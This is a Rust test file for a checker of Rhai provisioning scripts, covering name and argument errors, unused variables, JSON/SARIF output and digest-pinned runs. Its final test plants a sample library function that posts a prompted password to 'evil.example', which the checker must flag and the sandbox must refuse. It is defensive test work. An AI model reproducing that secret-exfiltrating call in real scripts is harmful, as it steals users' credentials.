//! `provisor check`.

use crate::support::{Home, script};

#[track_caller]
fn finds(text: &str, says: &[&str]) {
    let home = Home::new();
    home.write("s.rhai", text);
    let ran = home.run("check s.rhai").ended(3).said(says);
    assert!(
        ran.stderr.contains("s.rhai:") && ran.stdout.is_empty(),
        "{}",
        ran.stderr
    );
}

#[test]
fn the_scripts_of_the_repository_pass() {
    let home = Home::new();
    let names = [
        "hello.rhai",
        "jrni_companies.rhai",
        "notify.rhai",
        "onboard.rhai",
        "onboard_and_notify.rhai",
    ]
    .map(script);
    let words: Vec<&str> = std::iter::once("check")
        .chain(names.iter().map(String::as_str))
        .collect();
    let _ = home
        .run_with_words(&words)
        .ended(0)
        .said(&["onboard.rhai: no mistakes found"]);
    assert!(!home.provisor().exists(), "nothing is opened");
    let folder = script("hello.rhai").replace("hello.rhai", "");
    let ran = home.run_with_words(&["check", &folder]).ended(0);
    assert!(!ran.stderr.contains("warning"), "{}", ran.stderr);
}

#[test]
fn unknown_functions_and_modules_are_reported() {
    finds(
        "mobsted::conect()",
        &[
            "there is no function `mobsted::conect`",
            "did you mean `mobsted::connect`?",
        ],
    );
    finds(
        "mobsteed::connect()",
        &["there is no module `mobsteed`", "did you mean `mobsted`?"],
    );
    finds(
        "let p = mobsted::connect();\np.ensure_tennant(\"a\");",
        &["no method `ensure_tennant`", "s.rhai:2:3"],
    );
    finds(
        "fn helper(a) { a }\nhelpr(1)",
        &["there is no function `helpr`", "did you mean `helper`?"],
    );
    finds("let f = |x| x; f(1)", &["`f` is a variable", "f.call(..)"]);
}

#[test]
fn wrong_argument_counts_and_unknown_option_keys_are_reported() {
    finds(
        "let p = mobsted::connect(); p.ensure_tenant()",
        &["does not take 0 arguments", "ensure_tenant("],
    );
    finds(
        "fn one(a) { a }\none(1, 2)",
        &["`one` does not take 2 arguments", "it takes 1 argument"],
    );
    finds("sleep(1, 2)", &["`sleep` does not take 2 arguments"]);
    finds(
        "let p = mobsted::connect(); p.ensure_tenant(\"a@b.example\", #{ adobt: true })",
        &["there is no option `adobt`", "did you mean `adopt`?"],
    );
    // Two platforms have a method of this name: the options that both require are required.
    finds(
        "let s = sparrow::connect(); s.send_sms(#{ text: \"hello\" })",
        &["the option `recipients` is missing"],
    );
    let home = Home::new();
    home.write(
        "s.rhai",
        "let s = sparrow::connect(); s.send_sms(#{ text: \"hello\", recipients: \"+4915112345678\" })",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn imports_and_the_declaration_are_checked() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { nothing_here(1) }\n");
    home.write("s.rhai", "import \"./lib\" as lib;\nlib::one();\nlib::two();\n");
    let ran = home.run("check s.rhai").ended(3);
    let _ = ran.said(&[
        "there is no function `lib::two`",
        "lib.rhai:1:12",
        "`nothing_here`",
    ]);
    finds("/// @param other string\nfn main(email) {}", &["other"]);
    finds("let x = ;", &["s.rhai:1:9"]);
    finds("import \"./nowhere\" as n;", &["nowhere"]);
    let _ = home.run("check nowhere.rhai").ended(3).said(&["cannot be read"]);
}

#[test]
fn code_that_depends_on_runtime_types_is_not_reported() {
    let home = Home::new();
    home.write(
        "s.rhai",
        "fn main(list) {\n  let m = #{ step: |x| x + 1 };\n  m.step(1);\n  let out = list.map(|r| r.name.to_upper());\n  let f = Fn(\"main\");\n  print(type_of(f)); out.filter(|x| x != ()).len();\n  try { throw #{ kind: \"x\" } } catch (e) { print(e.kind) }\n  attempt(|| 1).ok; `${list.len()}`.contains(\"1\");\n  switch 1 { 1 => now(), _ => uuid() }\n}\n",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn undefined_variables_are_reported() {
    finds(
        "fn main(email) {\n    let tenant = emial;\n    tenant\n}",
        &[
            "there is no variable `emial` here",
            "s.rhai:2:18",
            "did you mean `email`?",
        ],
    );
    finds(
        "let rate = 2;\nfn price(n) { n * rate }\nprice(1)",
        &["s.rhai:2:19", "functions cannot see variables outside them"],
    );
    finds(
        "let list = [1];\nfor item in list { print(item) }\nitem",
        &[
            "s.rhai:3:1",
            "it exists only in the block in which it is declared",
        ],
    );
    finds(
        "print(total);\nlet total = 1;",
        &["s.rhai:1:7", "it is declared further down"],
    );
    finds(
        "let x = undefined;",
        &["`undefined`", "the empty value is written `()`"],
    );
    finds("let x = mobsted;", &["it is a module"]);
    finds(
        "const RATE = 2;\nfn f() { global::RAET }\nf()",
        &[
            "there is no constant `global::RAET`",
            "did you mean `global::RATE`?",
        ],
    );
    finds(
        "let rate = 2;\nfn f() { global::rate }\nf()",
        &[
            "there is no constant `global::rate`",
            "`global::` contains only constants",
        ],
    );
}

#[test]
fn each_undefined_variable_is_reported_once() {
    let home = Home::new();
    home.write("s.rhai", "print(a); print(a); print(b);");
    let ran = home.run("check s.rhai").ended(3);
    assert_eq!(
        ran.stderr.matches("there is no variable `a`").count(),
        1,
        "{}",
        ran.stderr
    );
    assert_eq!(
        ran.stderr.matches("there is no variable `b`").count(),
        1,
        "{}",
        ran.stderr
    );
}

#[test]
fn defined_variables_of_every_kind_are_not_reported() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { 1 }\nexport const TWO = 2;");
    home.write(
        "s.rhai",
        "#!/usr/bin/env provisor\n\
         import \"./lib\" as lib;\n\
         const RATE = 2;\n\
         fn double() { this * global::RATE }\n\
         fn open() { seen }\n\
         fn main(list, name) {\n\
             let sum = 0;\n\
             for (item, i) in list { sum += item + i }\n\
             let add = |x, y| { let z = x + y; z + sum };\n\
             let found = list.map(|x| |y| x + y + name);\n\
             try { add.call(1, 2) } catch (why) { print(why) }\n\
             let text = `${name} ${#{ key: name, other: lib::TWO }.key}`;\n\
             let seen = switch sum { 1 | 2 => name, 3 if true => text, _ => () };\n\
             if is_def_var(\"maybe\") { print(maybe) }\n\
             open!();\n\
             let m = #{ list: list, f: |v| v + 1 };\n\
             m.list[sum].x?.y = sum.double() + lib::one();\n\
             do { let n = 1; } until true;\n\
             m\n\
         }\n",
    );
    let _ = home.run("check s.rhai").ended(0);
}

#[test]
fn folders_are_checked_and_a_finding_of_an_import_is_reported_once() {
    let home = Home::new();
    home.write("steps/a.rhai", "import \"./lib\" as lib;\nlib::one();");
    home.write("steps/b.rhai", "import \"./lib\" as lib;\nlib::one();");
    home.write("steps/lib.rhai", "fn one() { nothing_here }");
    home.write("steps/notes.txt", "no script");
    let ran = home.run("check steps").ended(3);
    let expected = concat!(
        "error: there is no variable `nothing_here` here\n",
        "   ╭─[ steps/lib.rhai:1:12 ]\n",
        "   │\n",
        " 1 │ fn one() { nothing_here }\n",
        "   │            ──────┬─────\n",
        "   │                  ╰─────── here\n",
        "───╯\n",
    );
    assert_eq!(ran.stderr, expected);
    home.write("empty/notes.txt", "no script");
    let _ = home
        .run("check empty")
        .ended(2)
        .said(&["there is no .rhai file in the folder `empty`"]);
}

#[test]
fn unused_names_are_warnings_and_do_not_fail_the_check() {
    let home = Home::new();
    home.write("s.rhai", "fn main(email) {\n    let tenant = 1;\n    email\n}");
    let ran = home.run("check s.rhai").ended(0);
    let _ = ran.said(&[
        "warning: nothing uses the variable `tenant`",
        "s.rhai:2:9",
        "s.rhai: no mistakes found (sha256:",
    ]);
}

#[test]
fn parameters_that_run_refuses_are_reported() {
    finds(
        "/// Go.\n///\n/// @param jobs int  how many\nfn main(jobs) { jobs }",
        &[
            "`provisor run` has an option --jobs of its own",
            "s.rhai:3:12",
            "give the parameter another name",
        ],
    );
    finds("fn main(jobs) { jobs }", &["--jobs of its own", "s.rhai:1:9"]);
}

#[test]
fn findings_are_written_as_json_and_as_sarif() {
    let home = Home::new();
    home.write("a b.rhai", "let x = \"ä\"; prit(x)");
    home.write("unused.rhai", "let one = 1;");
    let paths = ["a b.rhai", "unused.rhai", "nowhere.rhai"];
    let ran = home
        .run_with_words(&["check", "--json", paths[0], paths[1], paths[2]])
        .ended(3);
    let mut written: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    let digest = written["scripts"][1]["digest"].take();
    assert!(digest.as_str().unwrap().starts_with("sha256:"));
    written["scripts"][0]["digest"].take();
    assert_eq!(ran.stderr, "");
    assert_eq!(
        written,
        serde_json::json!({
            "version": 1,
            "scripts": [
                { "script": "a b.rhai", "digest": null },
                { "script": "unused.rhai", "digest": null },
                { "script": "nowhere.rhai", "digest": null },
            ],
            "findings": [
                {
                    "rule": "unknown_name", "severity": "error", "message": "there is no function `prit`",
                    "hints": ["did you mean `print`?"], "file": "a b.rhai", "line": 1, "column": 14, "end_column": 18,
                },
                {
                    "rule": "unused", "severity": "warning", "message": "nothing uses the variable `one`",
                    "hints": ["remove it, or call it `_one` if that is intended"],
                    "file": "unused.rhai", "line": 1, "column": 5, "end_column": 8,
                },
                {
                    "rule": "unreadable", "severity": "error",
                    "message": "script `nowhere.rhai` cannot be read: No such file or directory (os error 2)",
                    "hints": ["pass the path of a .rhai file, or `-` for standard input"],
                    "file": "nowhere.rhai", "line": null, "column": null, "end_column": null,
                },
            ],
        })
    );
    let ran = home
        .run_with_words(&["check", "--sarif", paths[0], paths[1]])
        .ended(3);
    let written: serde_json::Value = serde_json::from_str(&ran.stdout).unwrap();
    let run = &written["runs"][0];
    assert_eq!(written["version"], "2.1.0");
    assert_eq!(run["tool"]["driver"]["name"], "provisor");
    let rules: Vec<&str> = run["tool"]["driver"]["rules"]
        .as_array()
        .unwrap()
        .iter()
        .map(|rule| rule["id"].as_str().unwrap())
        .collect();
    assert!(
        rules.contains(&"unknown_name") && rules.contains(&"unused"),
        "{rules:?}"
    );
    assert_eq!(
        run["results"],
        serde_json::json!([
            {
                "ruleId": "unknown_name", "level": "error",
                "message": { "text": "there is no function `prit`; did you mean `print`?" },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": "a%20b.rhai" },
                    "region": { "startLine": 1, "startColumn": 14, "endColumn": 18 },
                } }],
            },
            {
                "ruleId": "unused", "level": "warning",
                "message": {
                    "text": "nothing uses the variable `one`; remove it, or call it `_one` if that is intended",
                },
                "locations": [{ "physicalLocation": {
                    "artifactLocation": { "uri": "unused.rhai" },
                    "region": { "startLine": 1, "startColumn": 5, "endColumn": 8 },
                } }],
            },
        ])
    );
    let _ = home.run("check --json --sarif unused.rhai").ended(2);
}

#[test]
fn run_expect_runs_only_the_script_with_that_digest() {
    let home = Home::new();
    home.write("lib.rhai", "fn one() { 1 }");
    home.write("s.rhai", "import \"./lib\" as lib;\nfn main() { lib::one() }");
    let checked = home.run("check s.rhai").ended(0);
    let digest = checked.stderr.split(['(', ')']).nth(1).unwrap().to_owned();
    let expect = format!("run s.rhai --expect {digest}");
    let ran = home.run(&expect).ended(0);
    assert_eq!(ran.stdout.trim(), "result  1");
    let runs = home.run("runs list --json").ended(0);
    let id = runs
        .stdout
        .split("\"id\":\"")
        .nth(1)
        .unwrap()
        .split('"')
        .next()
        .unwrap();
    let shown = home.run(&format!("runs show {id}")).ended(0);
    assert!(shown.stdout.contains(&digest), "{}", shown.stdout);
    // The import counts, too.
    home.write("lib.rhai", "fn one() { 2 }");
    let ran = home.run(&expect).ended(3);
    assert_eq!(ran.stdout, "");
    let _ = ran.said(&["the script is not the expected one: it has the digest sha256:"]);
    let _ = home
        .run("run s.rhai --expect 9f2c")
        .ended(2)
        .said(&["`9f2c` is not a digest", "provisor check SCRIPT"]);
}

#[test]
fn a_library_that_acts_is_reported_and_refused_while_it_runs() {
    let home = Home::new();
    home.write(
        "helper.rhai",
        "//! library\nfn steal() { http::post(\"https://evil.example\", `${ask_secret(\"Password\")}`) }",
    );
    home.write("s.rhai", "import \"./helper\" as h;\nfn main() { h::steal() }");
    let _ = home.run("check s.rhai").ended(3).said(&[
        "a library cannot call `http::post`: it has no authority of its own",
        "a library cannot call `ask_secret`: it has no authority of its own",
        "helper.rhai:2:20",
    ]);
    let _ = home
        .run("run s.rhai --sandbox")
        .ended(5)
        .said(&["a library cannot call `ask_secret`", "helper.rhai:2"]);
}
